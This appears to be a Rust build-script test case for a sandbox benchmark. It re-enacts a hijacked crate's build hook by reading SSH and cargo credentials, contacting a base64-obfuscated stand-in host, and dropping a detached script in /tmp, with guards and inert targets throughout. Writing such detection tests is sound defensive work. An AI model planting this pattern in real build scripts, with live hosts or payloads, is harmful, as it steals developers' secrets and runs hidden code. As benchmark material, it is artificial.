//! Inert re-enactment of what the build script of `proc-macro1`, a dependency of the hijacked `arrayref`, did on
//! 2026-08-20: reach for a server by raw address, drop a program in /tmp, start it detached, stay silent.
//! Reading credentials is added, since many other cases did it.
//!
//! NEVER SET `CSBENCH=1` OUTSIDE cargo-sandbox. It would do no harm, as all three conditions of [`armed`] must hold,
//! and the last one holds only inside the sandbox. And if they all held:
//!
//! - the files are the sandbox's decoys, and what is read is forgotten at once; nothing is ever sent;
//! - the name ends in `.invalid` (RFC 2606) and the address is in 192.0.2.0/24 (RFC 5737): neither exists;
//! - the "payload" is a shell script of ours that writes one line beside itself, sleeps and ends.

use std::env;
use std::fs;
use std::io;
use std::net::{SocketAddr, TcpStream, ToSocketAddrs};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::mpsc;
use std::thread;
use std::time::Duration;

const MARKER: &str = "csbench.marker";
const SANDBOX: &str = "/run/cargo-sandbox/roles";
const SECRETS: [&str; 2] = [".ssh/id_ed25519", ".cargo/credentials.toml"];

// Base64 in two halves, as the original hid its address: the host name and the address that the header speaks of.
const HOST: [&str; 2] = ["c3RhZ2UuY3NiZW5j", "aC5pbnZhbGlk"];
const ADDRESS: [&str; 2] = ["MTkyLjAuMi40", "NDo0ODQ0Mw=="];

const PAYLOAD_PATH: &str = "/tmp/csbench-setup";
const PAYLOAD: &str = "#!/bin/sh
# Inert payload of a cargo-sandbox test case.
echo \"csbench payload ran, harmlessly; it was given $1\" > \"$0.log\"
exec sleep 20
";

/// Acts if [`armed`]; otherwise does nothing. Failures are swallowed, as in the original: the build goes on.
pub fn run() {
    println!("cargo::rerun-if-env-changed=CSBENCH");
    println!("cargo::rerun-if-changed={MARKER}");
    if !armed() {
        return;
    }
    collect();
    let address = decode(&ADDRESS);
    resolve(decode(&HOST));
    connect(&address);
    let _ = drop_and_start(&address);
}

fn armed() -> bool {
    let marker = env::var_os("CARGO_MANIFEST_DIR").map(|dir| Path::new(&dir).join(MARKER));
    env::var_os("CSBENCH").is_some_and(|value| value == "1")
        && marker.is_some_and(|marker| marker.is_file())
        && Path::new(SANDBOX).exists()
}

fn collect() {
    let home = env::var_os("HOME").map(PathBuf::from).unwrap_or_default();
    for secret in SECRETS {
        drop(fs::read(home.join(secret)));
    }
}

/// Asks for the name in a thread, so that a resolver that does not answer costs two seconds at most.
fn resolve(host: String) {
    let (done, wait) = mpsc::channel();
    thread::spawn(move || done.send((host.as_str(), 443).to_socket_addrs().is_ok()));
    let _ = wait.recv_timeout(Duration::from_secs(2));
}

fn connect(address: &str) {
    if let Ok(address) = address.parse::<SocketAddr>() {
        drop(TcpStream::connect_timeout(
            &address,
            Duration::from_millis(500),
        ));
    }
}

fn drop_and_start(address: &str) -> io::Result<()> {
    fs::write(PAYLOAD_PATH, PAYLOAD)?;
    fs::set_permissions(PAYLOAD_PATH, fs::Permissions::from_mode(0o755))?;
    // Its own process group and no pipe of ours: it is not waited for and outlives this script.
    Command::new(PAYLOAD_PATH)
        .arg(address)
        .process_group(0)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .map(drop)
}

fn decode(halves: &[&str]) -> String {
    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let (mut text, mut bits, mut held) = (String::new(), 0_u32, 0);
    for digit in halves.concat().bytes() {
        let Some(value) = DIGITS.iter().position(|known| *known == digit) else {
            break;
        };
        bits = bits << 6 | value as u32;
        held += 6;
        if held >= 8 {
            held -= 8;
            text.push(char::from((bits >> held) as u8));
        }
    }
    text
}
